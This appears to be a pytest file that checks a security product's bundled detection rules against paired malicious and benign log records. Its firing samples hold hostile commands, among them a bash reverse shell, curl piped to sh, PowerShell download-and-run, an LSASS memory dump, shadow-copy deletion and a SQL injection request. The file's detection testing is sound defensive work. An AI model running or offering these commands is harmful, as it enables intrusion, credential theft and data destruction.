"""Bundled rules on what products really write: raw records through their parsers."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from alerts.compiler.compiler import BUNDLED, compile_rules
from alerts.matching.event_rows import event_batch
from alerts.matching.matcher import Matcher
from alerts.rulepack.rule_pack import RulePack
from tests.alerts.raw_records import (
    ASA,
    AUDIT,
    MAIL,
    SYS,
    WEB,
    WIN,
    asa_denied,
    between,
    block,
    cleared,
    created,
    eve,
    execve,
    firewall,
    forti_session,
    forti_tunnel,
    github,
    guardduty,
    iam,
    k8s,
    member,
    mode_set,
    module,
    okta,
    ran,
    replicated,
    role,
    service,
    sign_in,
    task,
    ticket,
    touched,
    value_set,
)
from tests.ingest.logs import SAMPLES, rows
from tests.ingest.windows_forms import Sample, xml

OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = SYS + "WindowsPowerShell\\v1.0\\powershell.exe"
RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\u"
CLASSES = "HKU\\S-1-5-21-1-2-3-1104_Classes\\"
BASE64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"
REVERSE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
PUSH = {"factor": "OKTA_VERIFY_PUSH"}

# Each: the rule, the source, a record on which it fires, one on which it does not.
CASES: tuple[tuple[str, str, bytes | str, bytes | str], ...] = (
    (
        "windows_office_starts_shell",
        "windows_xml",
        ran(POWERSHELL, "powershell -w hidden", OFFICE),
        ran(WIN + "splwow64.exe", "splwow64.exe 12288", OFFICE),
    ),
    (
        "windows_powershell_encoded",
        "windows_xml",
        created(POWERSHELL, f"powershell -nop -enc {BASE64}", SYS + "cmd.exe"),
        created(POWERSHELL, "powershell -ExecutionPolicy Bypass -File a.ps1", SYS + "cmd.exe"),
    ),
    (
        "windows_powershell_download_and_run",
        "windows_xml",
        block("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"),
        block("Invoke-WebRequest https://intranet.example/a.csv -OutFile a.csv"),
    ),
    (
        "windows_powershell_amsi_tampering",
        "windows_xml",
        block("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"),
        block("Get-MpComputerStatus"),
    ),
    (
        "windows_lsass_memory_read",
        "windows_xml",
        between(10, "C:\\Tools\\m.exe", SYS + "lsass.exe", GrantedAccess="0x1010"),
        between(10, "C:\\Tools\\m.exe", SYS + "lsass.exe", GrantedAccess="0x1400"),
    ),
    (
        "windows_credential_dump_command",
        "windows_xml",
        ran(SYS + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 700 C:\\l.dmp full"),
        ran(SYS + "rundll32.exe", "rundll32 shell32.dll,Control_RunDLL"),
    ),
    (
        "windows_service_runs_command",
        "windows_xml",
        service("abcd", "%COMSPEC% /Q /c whoami ^> \\\\127.0.0.1\\C$\\__output"),
        service("Spooler", SYS + "spoolsv.exe"),
    ),
    (
        "windows_task_runs_script",
        "windows_xml",
        task("powershell.exe", "-w hidden -File C:\\x.ps1"),
        task("C:\\Program Files\\Backup\\run.exe", "/daily"),
    ),
    (
        "windows_event_log_cleared",
        "windows_xml",
        cleared(1102),
        xml(Sample(1100, {}, "Microsoft-Windows-Eventlog", user_data="ServiceShutdown")),
    ),
    (
        "windows_local_admin_added",
        "windows_xml",
        member(4732, "S-1-5-32-544"),
        member(4733, "S-1-5-32-544"),
    ),
    (
        "windows_domain_admin_added",
        "windows_xml",
        member(4728, "S-1-5-21-1-2-3-512"),
        member(4728, "S-1-5-21-1-2-3-513"),
    ),
    (
        "windows_kerberos_rc4_ticket",
        "windows_xml",
        ticket("svc_sql", "0x17"),
        ticket("svc_sql", "0x12"),
    ),
    ("windows_dcsync", "windows_xml", replicated("ann"), replicated("DC01$")),
    (
        "windows_remote_thread",
        "windows_xml",
        between(8, "C:\\Users\\ann\\a.exe", WIN + "explorer.exe", StartModule="-"),
        between(8, SYS + "csrss.exe", WIN + "explorer.exe", StartModule="-"),
    ),
    (
        "windows_run_key_persistence",
        "windows_xml",
        value_set(RUN, "C:\\Users\\ann\\AppData\\Roaming\\u.exe"),
        value_set(RUN, "%windir%\\system32\\SecurityHealthSystray.exe"),
    ),
    (
        "windows_uac_bypass_registry",
        "windows_xml",
        value_set(CLASSES + "ms-settings\\shell\\open\\command\\(Default)", "C:\\a.exe"),
        value_set(CLASSES + "txtfile\\shell\\open\\command\\(Default)", "notepad.exe"),
    ),
    (
        "windows_shadow_copies_deleted",
        "windows_xml",
        ran(SYS + "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet"),
        ran(SYS + "vssadmin.exe", "vssadmin.exe List Shadows"),
    ),
    (
        "windows_download_by_system_tool",
        "windows_xml",
        ran(SYS + "certutil.exe", "certutil -urlcache -f http://203.0.113.9/a a.exe"),
        ran(SYS + "certutil.exe", "certutil -hashfile a.exe SHA256"),
    ),
    (
        "windows_defender_weakened",
        "windows_xml",
        ran(POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        ran(POWERSHELL, "powershell Get-MpPreference"),
    ),
    (
        "windows_web_server_starts_shell",
        "windows_xml",
        created(SYS + "cmd.exe", "cmd /c whoami", SYS + "inetsrv\\w3wp.exe"),
        created(SYS + "cmd.exe", "cmd /c whoami", WIN + "explorer.exe"),
    ),
    (
        "linux_reverse_shell",
        "auditd",
        execve("/usr/bin/bash", "bash", "-c", REVERSE),
        execve("/usr/bin/nc", "nc", "-z", "10.0.0.9", "22"),
    ),
    (
        "linux_download_piped_to_shell",
        "auditd",
        execve("/usr/bin/dash", "sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"),
        execve("/usr/bin/dash", "sh", "-c", "curl -s http://10.0.0.9/health | grep ok"),
    ),
    ("linux_setuid_set", "auditd", mode_set("9ed"), mode_set("1ed")),
    ("linux_kernel_module_loaded", "auditd", module(1000), module(4294967295)),
    (
        "linux_scheduled_persistence",
        "auditd",
        touched("/etc/cron.d/x", "/usr/bin/bash", kind="CREATE"),
        touched("/etc/cron.d/x", "/usr/sbin/cron", flags="0"),
    ),
    (
        "linux_account_file_changed",
        "auditd",
        touched("/etc/passwd", "/usr/bin/vim.basic"),
        touched("/etc/passwd", "/usr/bin/cat", flags="0"),
    ),
    (
        "linux_ssh_key_written",
        "auditd",
        touched("/root/.ssh/authorized_keys", "/usr/bin/bash"),
        touched("/root/.ssh/authorized_keys", "/usr/sbin/sshd", flags="0"),
    ),
    (
        "linux_audit_disabled",
        "auditd",
        f"type=CONFIG_CHANGE {AUDIT} op=set audit_enabled=0 old=1 auid=1000 ses=3 res=1",
        f"type=CONFIG_CHANGE {AUDIT} auid=1000 ses=3 op=add_rule key=k list=4 res=1",
    ),
    (
        "daemon_login_failed",
        "dovecot",
        MAIL + "dovecot: imap-login: Disconnected (auth failed, 3 attempts in 14 secs): "
        "user=<ann>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.2, TLS",
        MAIL + "dovecot: imap-login: Login: user=<ann>, method=PLAIN, rip=203.0.113.9, "
        "lip=10.0.0.2, mpid=7, TLS",
    ),
    (
        "daemon_login_failed",
        "vsftpd",
        'Mon Mar  2 10:00:00 2026 [pid 3] [ann] FAIL LOGIN: Client "203.0.113.9"',
        'Mon Mar  2 10:00:00 2026 [pid 3] [ann] OK LOGIN: Client "203.0.113.9"',
    ),
    (
        "daemon_login_failed",
        "mysql",
        "2026-03-02T10:00:00.123456Z 8 [Note] [MY-010926] [Server] Access denied for user "
        "'root'@'203.0.113.9' (using password: YES)",
        "2026-03-02T10:00:00.123456Z 0 [System] [MY-010931] [Server] /usr/sbin/mysqld: ready for "
        "connections.",
    ),
    (
        "daemon_login_failed",
        "postfix",
        MAIL + "postfix/smtpd[1]: warning: unknown[203.0.113.9]: SASL LOGIN authentication "
        "failed: UGFzc3dvcmQ6",
        MAIL + "postfix/smtpd[1]: disconnect from unknown[203.0.113.9]",
    ),
    (
        "daemon_login_failed",
        "openldap",
        "\n".join(
            f"Mar  2 10:00:00 ldap1 slapd[7]: conn=1 {text}"
            for text in (
                "fd=14 ACCEPT from IP=203.0.113.9:40000 (IP=0.0.0.0:389)",
                'op=0 BIND dn="cn=admin,dc=x" method=128',
                "op=0 RESULT tag=97 err=49 text=",
            )
        ),
        "Mar  2 10:00:00 ldap1 slapd[7]: conn=1 op=0 RESULT tag=97 err=0 text=",
    ),
    ("firewall_denied_inside", "cisco_asa", asa_denied("10.0.0.5"), asa_denied("203.0.113.9")),
    ("firewall_denied_inside", "fortigate", forti_session("deny"), forti_session("close")),
    (
        "vpn_session_opened",
        "cisco_asa",
        ASA + "6-113039: Group <G> User <ann> IP <203.0.113.9> AnyConnect parent session started.",
        ASA + "6-113005: AAA user authentication Rejected : reason = Invalid password : "
        "server = 10.0.0.2 : user = ann : user IP = 203.0.113.9",
    ),
    ("vpn_session_opened", "fortigate", forti_tunnel("tunnel-up"), forti_tunnel("tunnel-down")),
    ("suricata_high_alert", "suricata", eve(1), eve(3)),
    (
        "web_sql_injection",
        "nginx",
        WEB + '"GET /a?id=1%27%20UNION%20SELECT%201,2 HTTP/1.1" 200 5 "-" "curl/8"',
        WEB + '"GET /shop?q=student+union+selected HTTP/1.1" 200 5 "-" "curl/8"',
    ),
    (
        "web_shell_access",
        "apache",
        WEB + '"POST /uploads/c99.php?cmd=id HTTP/1.1" 200 5 "-" "curl/8"',
        WEB + '"POST /uploads/c99.php?cmd=id HTTP/1.1" 404 5 "-" "curl/8"',
    ),
    (
        "web_secret_file_served",
        "nginx",
        WEB + '"GET /.env HTTP/1.1" 200 5 "-" "curl/8"',
        WEB + '"GET /.env HTTP/1.1" 404 5 "-" "curl/8"',
    ),
    (
        "dns_over_https_resolver",
        "bind",
        "02-Mar-2026 10:00:00.123 client @0x7f 10.0.0.5#5353 (dns.google): query: dns.google IN A "
        "+E(0)K (10.0.0.1)",
        "02-Mar-2026 10:00:00.123 client @0x7f 10.0.0.5#5353 (a.example): query: a.example IN A "
        "+E(0)K (10.0.0.1)",
    ),
    (
        "dhcp_other_server",
        "isc_dhcpd",
        "Mar  2 10:00:00 gw dhcpd[7]: DHCPREQUEST for 10.0.0.5 (10.0.0.66) from "
        "02:42:ac:77:0b:19 via eth0: unknown lease 10.0.0.5.",
        "Mar  2 10:00:00 gw dhcpd[7]: DHCPREQUEST for 10.0.0.5 (10.0.0.1) from "
        "02:42:ac:77:0b:19 via eth0",
    ),
    ("aws_guardduty_high", "aws_guardduty", guardduty(8), guardduty(2)),
    (
        "okta_mfa_denied",
        "okta",
        okta("user.authentication.auth_via_mfa", "FAILURE", **PUSH),
        okta("user.authentication.auth_via_mfa", "SUCCESS", **PUSH),
    ),
    (
        "okta_admin_granted",
        "okta",
        okta("user.account.privilege.grant", privilegeGranted="Super administrator"),
        okta("user.account.privilege.revoke", privilegeRevoked="Super administrator"),
    ),
    ("okta_factors_reset", "okta", okta("user.mfa.factor.reset_all"), okta("user.session.start")),
    (
        "k8s_exec_into_pod",
        "k8s_audit",
        k8s("create", "pods", sub="exec", code=101),
        k8s("create", "pods", code=201),
    ),
    (
        "k8s_anonymous_access",
        "k8s_audit",
        k8s("list", "pods", "system:anonymous"),
        k8s("list", "pods", "system:anonymous", code=403),
    ),
    (
        "k8s_secret_read",
        "k8s_audit",
        k8s("list", "secrets", "system:serviceaccount:default:web"),
        k8s("get", "secrets", "system:node:n1"),
    ),
    (
        "gcp_service_account_key_created",
        "gcp_audit",
        iam("CreateServiceAccountKey"),
        iam("ListServiceAccountKeys"),
    ),
    ("gcp_firewall_opened", "gcp_audit", firewall("0.0.0.0/0"), firewall("10.0.0.0/8")),
    (
        "github_repository_made_public",
        "github_audit",
        github("repo.access", visibility="public"),
        github("repo.access", visibility="private"),
    ),
    (
        "github_branch_unprotected",
        "github_audit",
        github("protected_branch.destroy", name="main"),
        github("protected_branch.create", name="main"),
    ),
    ("entra_risky_sign_in", "azure_audit", sign_in("high"), sign_in("low")),
    (
        "entra_privileged_role_given",
        "azure_audit",
        role("Global Administrator"),
        role("Printer Technician"),
    ),
)


@pytest.fixture(scope="module")
def pack() -> RulePack:
    return compile_rules([BUNDLED]).pack


@pytest.fixture(scope="module")
def matcher(pack: RulePack) -> Matcher:
    return Matcher(pack)


def fired(matcher: Matcher, pack: RulePack, source: str, *raws: bytes) -> set[str]:
    """Names of the rules that find something in the records' events, all of them readable."""
    events = rows(source, *raws)
    assert [e["dead_letter_reason"] for e in events if e.get("dead_letter_reason")] == []
    names = {rule.id: rule.name for rule in pack.rules}
    return {names[row["rule_id"]] for row in matcher.match(event_batch(events)).to_pylist()}


@pytest.mark.parametrize(
    ("rule", "source", "bad", "good"), CASES, ids=[f"{case[0]}-{case[1]}" for case in CASES]
)
def test_a_rule_fires_on_its_products_records_and_not_on_ordinary_ones(
    matcher: Matcher, pack: RulePack, rule: str, source: str, bad: bytes | str, good: bytes | str
) -> None:
    one, other = (raw.encode() if isinstance(raw, str) else raw for raw in (bad, good))
    assert rule in fired(matcher, pack, source, one)
    assert rule not in fired(matcher, pack, source, other)


def test_the_demo_fires_none_of_these_rules(matcher: Matcher, pack: RulePack) -> None:
    story = SAMPLES / "demo"
    inputs = tomllib.loads((story / "plan.toml").read_text("utf-8"))["input"]
    found: set[str] = set()
    for entry in inputs:
        file = Path(entry["file"])
        if file.parent == Path() and not file.name.startswith("broken_"):
            lines = (story / file).read_bytes().splitlines()
            found |= fired(matcher, pack, entry["source"], *lines)
    assert found
    assert found.isdisjoint({case[0] for case in CASES})


def test_there_are_sixty_rules_and_ten_correlations_and_alerts_say_what_to_do(
    pack: RulePack,
) -> None:
    assert len(pack.rules) + len(pack.correlations) >= 60
    assert len(pack.correlations) >= 10
    described = [*pack.rules, *pack.correlations]
    assert [r.name for r in described if r.level != "informational" and not r.runbook] == []
